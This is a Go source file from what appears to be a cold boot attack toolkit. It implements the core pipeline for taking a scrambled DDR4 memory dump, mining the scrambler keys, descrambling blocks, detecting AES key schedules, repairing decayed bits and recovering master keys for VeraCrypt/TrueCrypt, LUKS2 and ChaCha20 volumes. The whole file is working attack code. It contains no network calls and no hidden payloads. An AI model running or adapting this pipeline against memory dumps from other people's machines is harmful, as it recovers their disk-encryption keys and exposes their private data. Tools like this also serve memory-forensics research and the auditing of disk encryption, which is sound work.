package core

import (
	"bytes"
	"context"
	"fmt"
	"runtime"
	"sort"
	"strconv"
	"sync"
	"sync/atomic"

	"coldboot/internal/aes"
	"coldboot/internal/bitutil"
	"coldboot/internal/format"
	"coldboot/internal/obs"
	"coldboot/internal/secret"
)

// Config tunes the attack pipeline.
type Config struct {
	// Variant is the AES key size hunted for (default AES256, the
	// VeraCrypt/TrueCrypt case).
	Variant aes.Variant
	// Formats selects which target formats to hunt in the single
	// descramble pass: "aesxts" (the native AES-schedule hunt) plus any
	// name registered in internal/format ("luks2", "chacha20", ...). Nil
	// (the zero value) enables every known format. Unknown names fail the
	// attack up front.
	Formats []string
	// RepairFlips enables single-bit window repair of decayed anchors
	// (0 = off; any positive value turns it on).
	RepairFlips int
	// GroundDump, when non-nil (same length as the dump), enables
	// ground-state-aware repair: a second dump of the same DIMM taken
	// after full decay WITHOUT rebooting (the keystream cancels in the
	// comparison), restricting repair to bits that could physically have
	// decayed and affording a deeper (3-flip) search. See groundrepair.go.
	// Only a memory-resident dump can carry one: streaming sources and
	// fleet campaigns reject it.
	GroundDump []byte
	// Workers is the scan parallelism. Zero (the zero value) means one
	// worker per CPU — callers never need to set it.
	Workers int
	// KeysForBlock, when non-nil, overrides the key directory entirely
	// (used by tests and by attacks with out-of-band key knowledge); no
	// stride is inferred then.
	KeysForBlock KeyDirectory
	// Tracer observes the pipeline: per-stage wall time, candidate
	// counters, hunt progress, and per-chunk/per-verify latency
	// histograms. Nil means no tracing (obs.Nop).
	Tracer obs.Tracer
	// Span, when non-nil, parents the campaign's root span under a caller
	// span (coldbootd nests it under a per-job span). Nil means the
	// campaign starts its own trace tree on the Tracer.
	Span obs.Span
}

func (c Config) withDefaults() Config {
	if c.Variant == 0 {
		c.Variant = aes.AES256
	}
	if c.Workers <= 0 {
		c.Workers = runtime.NumCPU()
	}
	return c
}

// minVerifyScore accepts a candidate master whose full-schedule match
// fraction reaches it: correct keys score ~1.0, wrong ones ~0.5.
const minVerifyScore = 0.80

// FoundKey is one recovered key.
type FoundKey struct {
	Master     []byte
	Variant    aes.Variant // key size for AES-schedule formats; zero otherwise
	TableStart int         // dump byte offset of the in-memory key material
	Score      float64     // verification match fraction
	Anchors    int         // number of independent anchor hits that agreed
	// Format is the registered name of the format this key belongs to
	// ("aesxts", "luks2", "chacha20", ...).
	Format string
	// Volume names the encrypted volume this key unlocks when the format
	// could tie them together (a LUKS2 header UUID); empty otherwise.
	Volume string
}

// Result is the attack's full output.
type Result struct {
	Mine          *MineResult
	Stride        int     // inferred key-reuse period in blocks (0 = none)
	Coverage      float64 // fraction of address classes with a mined key
	BlocksScanned int
	PairsTested   int64 // (block, key) combinations examined
	Keys          []FoundKey
	// Volumes are the encrypted-volume headers recognized in the dump
	// (offset order), independent of whether their keys were recovered.
	Volumes []format.Volume
}

// huntRun is one shard scan's state: the shard's bytes, its views of the
// plan's directory, skip set and ground dump, and the candidates the hunt
// collects.
type huntRun struct {
	dump []byte
	// first is the shard's first block in the full dump: directory and
	// skip are indexed in full-dump blocks.
	first int
	// ground is the shard's slice of Config.GroundDump, or nil.
	ground []byte
	cfg    Config // defaults already applied; GroundDump is the whole dump's
	// directory gives the candidate scrambler keys per shard-local block.
	directory KeyDirectory
	// skip is the plan's bitset over full-dump block indices that cannot
	// contain schedules (mined-key sightings are zero-data blocks).
	skip []uint64
	// pairs counts the (block, key) combinations the hunt examined.
	pairs int64

	tracer obs.Tracer
	// memo caches completed verify→refine outcomes per (pre-repair master,
	// table start): re-sighting an already-verified master at another anchor
	// window replays the recorded outcome instead of re-running the full
	// verification and refinement, which is where repeat anchors spent
	// nearly all their time. Only above-threshold initial verifications are
	// memoized — those flows never consult the (block-dependent) repair
	// paths, so the replay is exactly the recomputation.
	memoMu sync.RWMutex
	memo   map[string]*verifyOutcome // guarded by memoMu
	// rf is cfg.Formats resolved against the format registry.
	rf resolvedFormats
	// found collects native AES candidates during the hunt, deduplicated
	// by master bytes; foundF collects prober findings deduplicated by
	// (format, key); volumes collects header sightings by offset. All
	// three share mu.
	mu      sync.Mutex
	found   map[string]*FoundKey  // guarded by mu
	foundF  map[string]*FoundKey  // guarded by mu
	volumes map[int]format.Volume // guarded by mu
}

// verifyOutcome is one memoized verify→refine result; outcomes for the
// same master at different table starts (duplicate schedules in memory)
// chain through next.
type verifyOutcome struct {
	start int
	final []byte
	score float64
	next  *verifyOutcome
}

// memoLookup returns the recorded outcome for (master, start), or nil.
func (run *huntRun) memoLookup(master []byte, start int) *verifyOutcome {
	run.memoMu.RLock()
	o := run.memo[string(master)] // direct index: no key allocation
	run.memoMu.RUnlock()
	for ; o != nil; o = o.next {
		if o.start == start {
			return o
		}
	}
	return nil
}

// memoStore records a completed outcome, copying final out of scratch.
func (run *huntRun) memoStore(master []byte, start int, final []byte, score float64) {
	o := &verifyOutcome{start: start, final: append([]byte{}, final...), score: score}
	run.memoMu.Lock()
	head := run.memo[string(master)]
	for h := head; h != nil; h = h.next {
		if h.start == start { // another worker beat us to it
			run.memoMu.Unlock()
			return
		}
	}
	o.next = head
	//lint:ignore keyflow memo needs a comparable key; the []byte finals are wiped by run.wipe
	run.memo[string(master)] = o
	run.memoMu.Unlock()
}

// wipe zeroes the run's private key-bearing state: the memoized
// verify→refine finals. The FoundKey masters in res are separate copies
// owned by the caller and are left intact.
func (run *huntRun) wipe() {
	run.memoMu.Lock()
	for _, o := range run.memo {
		for h := o; h != nil; h = h.next {
			secret.Wipe(h.final)
		}
	}
	clear(run.memo)
	run.memoMu.Unlock()
}

// skipBlock reports whether shard-local block b is a known zero-data
// block.
func (run *huntRun) skipBlock(b int) bool {
	b += run.first
	return run.skip[b>>6]&(1<<uint(b&63)) != 0
}

// Attack runs the complete DDR4 cold boot attack on a scrambled memory
// dump: mine scrambler keys, locate AES key schedules, and recover master
// keys. The dump may be single- or double-scrambled (victim-only, or victim
// XOR attacker keystream — the litmus invariants survive both) and may
// contain bit decay.
//
// Attack is a one-shard campaign: the same plan, shard scan and merge as
// RunCampaignSource, with the whole dump as its single shard and all of
// Config.Workers on that shard's hunt. Every long loop (the mining scan
// and each hunt worker) checks ctx at least once per scan chunk, so a
// cancelled attack stops mid-scan within one chunk of work. On
// cancellation the partial Result assembled from the work already done is
// returned together with ctx.Err().
func Attack(ctx context.Context, dump []byte, cfg Config) (*Result, error) {
	if len(dump)%BlockBytes != 0 {
		return nil, fmt.Errorf("core: dump length %d not block aligned", len(dump))
	}
	return RunCampaignSource(ctx, BytesSource(dump), CampaignConfig{
		Attack:      cfg,
		ShardBlocks: len(dump) / BlockBytes,
		Parallel:    1,
	})
}

// chooseDirectory is the one rule every campaign builds its key directory
// by: the caller's KeysForBlock override as given; every mined key when no
// stride was inferred; otherwise the stride's residue directory, returned
// with its address-class coverage.
func chooseDirectory(mine *MineResult, stride int, cfg Config) (KeyDirectory, float64) {
	switch {
	case cfg.KeysForBlock != nil:
		return cfg.KeysForBlock, 0
	case stride == 0:
		return AllKeysDirectory(mine), 0
	default:
		return ResidueDirectory(mine, stride), mine.Coverage(stride)
	}
}

// zeroBlocks is the bitset, over a dump of nBlocks blocks, of the mined
// keys' sightings. Zero-data blocks are exactly those sightings: the hunt
// skips them (they cannot contain schedules, and their degenerate windows
// waste time).
func zeroBlocks(mine *MineResult, nBlocks int) []uint64 {
	skip := make([]uint64, (nBlocks+63)/64)
	for _, k := range mine.Keys {
		for _, p := range k.Positions {
			if p >= 0 && p < nBlocks {
				skip[p>>6] |= 1 << uint(p&63)
			}
		}
	}
	return skip
}

// Decayed zero blocks can fail the exact-tolerance litmus and evade the
// mined-position skip; they are still recognizable as approximate
// keystream (litmus distance far below random's ~128 expected bits).
const zeroBlockSkipDistance = 48

// scanCancelChunkBlocks is the hunt's cancellation granularity: each worker
// polls ctx (and reports progress) every this many blocks — 16 KiB of
// dump, a sub-millisecond unit of work even with every mined key per block.
const scanCancelChunkBlocks = 256

// hunt is the expensive middle of the attack (paper steps 2-4):
// descramble every candidate (block, key) pair, AES-litmus the result,
// and verify/repair/refine anchors into candidate master keys. Its
// workers' spans nest under span.
func (run *huntRun) hunt(ctx context.Context, span obs.Span) error {
	cfg := run.cfg
	dump := run.dump
	nBlocks := len(dump) / BlockBytes
	nk := cfg.Variant.Nk()

	var pairs, hits, repairs, repairCands, repairExits, repairRejects int64
	var done atomic.Int64
	var cancelled atomic.Bool
	verifyBudget := mismatchBudget(cfg.Variant.ScheduleBytes()*8, minVerifyScore)

	var wg sync.WaitGroup
	chunk := (nBlocks + cfg.Workers - 1) / cfg.Workers
	for w := 0; w < cfg.Workers; w++ {
		lo, hi := w*chunk, (w+1)*chunk
		if hi > nBlocks {
			hi = nBlocks
		}
		if lo >= hi {
			continue
		}
		wg.Add(1)
		go func(lo, hi int) {
			defer wg.Done()
			ws := span.Child("hunt.worker",
				obs.A("blocks", strconv.Itoa(lo)+"-"+strconv.Itoa(hi)),
				obs.A("offset", "0x"+strconv.FormatInt(int64(lo)*BlockBytes, 16)+"-0x"+strconv.FormatInt(int64(hi)*BlockBytes, 16)))
			defer ws.End()
			// All per-candidate buffers live on the worker's scratch: the
			// steady-state scan allocates nothing per block or candidate.
			sc := new(huntScratch)
			defer sc.wipe()
			probers := run.rf.probers
			var view *descrambleView
			var emitFinding func(format.Finding)
			if len(probers) > 0 {
				// One view + one emit closure per worker, hoisted out of the
				// scan so the prober path stays allocation-free per block.
				view = &descrambleView{data: dump, directory: run.directory}
				emitFinding = func(f format.Finding) { run.recordFinding(f) }
			}
			var localPairs, localHits int64
			lastCheck := lo
			chunkStart := obs.Now()
			for b := lo; b < hi; b++ {
				if b-lastCheck >= scanCancelChunkBlocks {
					n := done.Add(int64(b - lastCheck))
					lastCheck = b
					if ctx.Err() != nil {
						cancelled.Store(true)
					}
					run.tracer.Progress("hunt", n, int64(nBlocks))
					run.tracer.Observe("hunt.chunk_ns", obs.Since(chunkStart))
					chunkStart = obs.Now()
				}
				if cancelled.Load() {
					break
				}
				if run.skipBlock(b) {
					continue
				}
				stored := dump[b*BlockBytes : (b+1)*BlockBytes]
				if KeyLitmusDistance(stored) <= zeroBlockSkipDistance {
					continue // decayed zero block: approximate keystream
				}
				for _, key := range run.directory(b) {
					localPairs++
					bitutil.XORBlock64(sc.descrambled[:], stored, key)
					// Every enabled format probes the same descrambled block:
					// one descramble, N hunts.
					for _, p := range probers {
						view.curBlock = b
						view.curDescrambled = sc.descrambled[:]
						p.ProbeBlock(sc.descrambled[:], b*BlockBytes, view, DefaultAESTolerance, emitFinding)
					}
					if !run.rf.aes {
						continue
					}
					words := aes.BytesToWordsInto(sc.words[:0], sc.descrambled[:])
					// Degenerate windows (zero, pattern or text data) yield
					// meaningless masters, so the litmus skips them before
					// any trial.
					sc.hits = aesLitmusWords(words, cfg.Variant, DefaultAESTolerance, true, sc.hits[:0])
					localHits += int64(len(sc.hits))
					// Single-flip repair is cheap (prediction-prefiltered), so
					// every failing hit may try it; the cubic ground-state
					// search is rationed per (block, key) pair.
					groundRepairsLeft := 4
					for _, hit := range sc.hits {
						start := hit.TableStart(b)
						if start < 0 || start+cfg.Variant.ScheduleBytes() > len(dump) {
							continue
						}
						master := aes.RecoverMasterKeyInto(sc.master[:0],
							words[hit.WordOffset:hit.WordOffset+nk], hit.ScheduleIndex, cfg.Variant)
						if o := run.memoLookup(master, start); o != nil {
							// Re-sighted anchor of an already-completed
							// verification: replay the recorded outcome.
							run.record(o.final, o.start, o.score, cfg.Variant)
							continue
						}
						verifyStart := obs.Now()
						// Almost every candidate master is garbage derived from
						// application data and will never be sighted again, so
						// it expands into scratch: no allocation per candidate.
						sched := aes.ExpandKeyBytesInto(sc.repair.sched[:0], master)
						// Only pass/fail matters here (refine rescores a
						// verified master), so scoring stops at the budget.
						initialVerified := scheduleMismatch(dump, run.directory, sched, start, verifyBudget) <= verifyBudget
						run.tracer.Observe("hunt.verify_ns", obs.Since(verifyStart))
						verified := initialVerified
						if !verified && run.ground != nil && groundRepairsLeft > 0 {
							groundRepairsLeft--
							master, _, verified = repairWindowScratch(&sc.repair, dump, run.ground,
								run.directory, sc.descrambled[:], b, hit, cfg.Variant)
						} else if !verified && cfg.RepairFlips > 0 {
							master, _, verified = repairWindowScratch(&sc.repair, dump, nil,
								run.directory, sc.descrambled[:], b, hit, cfg.Variant)
						}
						if verified {
							// Correct residual linear-chain bit errors via
							// schedule-redundancy majority voting before
							// accepting the key. The refined master aliases
							// scratch; record and memoStore copy it out.
							final, finalScore := refineMasterScratch(&sc.repair, dump, run.directory,
								master, start, cfg.Variant)
							if initialVerified {
								// master was untouched by the repair paths
								// (sc.master, disjoint from sc.repair): safe to
								// memoize the deterministic verify→refine flow.
								run.memoStore(master, start, final, finalScore)
							}
							run.record(final, start, finalScore, cfg.Variant)
						}
					}
				}
			}
			run.mu.Lock()
			pairs += localPairs
			hits += localHits
			repairs += sc.repair.repairs
			repairCands += sc.repair.candidates
			repairExits += sc.repair.earlyExits
			repairRejects += sc.repair.boundRejects
			run.mu.Unlock()
		}(lo, hi)
	}
	wg.Wait()
	run.pairs = pairs
	run.tracer.Count("hunt.pairs_tested", pairs)
	run.tracer.Count("hunt.schedule_hits", hits)
	run.tracer.Count("repair.calls", repairs)
	run.tracer.Count("repair.candidates", repairCands)
	run.tracer.Count("repair.early_exits", repairExits)
	run.tracer.Count("repair.bound_rejects", repairRejects)
	run.mu.Lock()
	candidates := int64(len(run.found))
	run.mu.Unlock()
	run.tracer.Count("hunt.candidates", candidates)
	run.tracer.Progress("hunt", done.Load(), int64(nBlocks))
	if cancelled.Load() {
		return ctx.Err()
	}
	return nil
}

// record registers a candidate master sighted at start with the given
// verification score, merging repeat sightings into anchor counts.
func (run *huntRun) record(master []byte, start int, score float64, v aes.Variant) {
	run.mu.Lock()
	defer run.mu.Unlock()
	//lint:ignore keyflow found-map keys back the FoundKey results handed to the caller
	k := string(master)
	if f, ok := run.found[k]; ok {
		f.Anchors++
		// Equal scores keep the lower table start, so the outcome does not
		// depend on which hunt worker sighted the master first.
		if score > f.Score || (score == f.Score && start < f.TableStart) {
			f.Score = score
			f.TableStart = start
		}
		return
	}
	run.found[k] = &FoundKey{
		Master:     append([]byte{}, master...),
		Variant:    v,
		TableStart: start,
		Score:      score,
		Anchors:    1,
	}
}

// assemble ranks the hunt's candidates and suppresses shift-family
// aliases: a window anchored at the wrong schedule index (off by a
// multiple of the Nk period) yields a "master" whose expansion is the true
// schedule shifted a few words — it still verifies at ~0.9 because most of
// its range overlaps the real table. The best-scoring candidate per
// overlapping region is kept; the true master always scores strictly
// higher than its shifts. Alias suppression is per format (a ChaCha state
// inside an AES schedule's shadow is not an alias of it). Keys come back
// untagged and unfiltered: LUKS2 pair tagging and the format filter run
// in Finalize over the merged cross-shard view, because a schedule pair
// (or the header naming it) can straddle a shard boundary.
func (run *huntRun) assemble() ([]FoundKey, []format.Volume) {
	// The hunt has finished (or been cancelled) by assembly time, but
	// taking mu keeps the guarded-field contract checkable.
	run.mu.Lock()
	defer run.mu.Unlock()
	candidates := make([]FoundKey, 0, len(run.found)+len(run.foundF))
	for _, f := range run.found {
		c := *f
		c.Format = FormatAESXTS
		candidates = append(candidates, c)
	}
	for _, f := range run.foundF {
		candidates = append(candidates, *f)
	}
	sortFoundKeys(candidates)
	return suppressAliases(candidates, run.cfg.Variant.ScheduleBytes()), sortedVolumes(run.volumes)
}

// sortFoundKeys orders candidates best-first with a full deterministic
// tie-break (score desc, then table start, master bytes, format).
func sortFoundKeys(keys []FoundKey) {
	sort.Slice(keys, func(i, j int) bool {
		if keys[i].Score != keys[j].Score {
			return keys[i].Score > keys[j].Score
		}
		if keys[i].TableStart != keys[j].TableStart {
			return keys[i].TableStart < keys[j].TableStart
		}
		if c := bytes.Compare(keys[i].Master, keys[j].Master); c != 0 {
			return c < 0
		}
		return keys[i].Format < keys[j].Format
	})
}

// suppressAliases greedily keeps the best-scoring candidate per
// overlapping same-format region. candidates must already be sorted
// best-first.
func suppressAliases(candidates []FoundKey, schedBytes int) []FoundKey {
	var out []FoundKey
	for _, c := range candidates {
		w := formatWidth(c.Format, schedBytes)
		alias := false
		for _, kept := range out {
			if kept.Format != c.Format {
				continue
			}
			lo, hi := c.TableStart, c.TableStart+w
			if kept.TableStart > lo {
				lo = kept.TableStart
			}
			if kept.TableStart+w < hi {
				hi = kept.TableStart + w
			}
			if hi-lo >= w/2 {
				alias = true
				break
			}
		}
		if !alias {
			out = append(out, c)
		}
	}
	return out
}

// Masters returns just the recovered master keys, best first.
func (r *Result) Masters() [][]byte {
	out := make([][]byte, len(r.Keys))
	for i, k := range r.Keys {
		out[i] = k.Master
	}
	return out
}
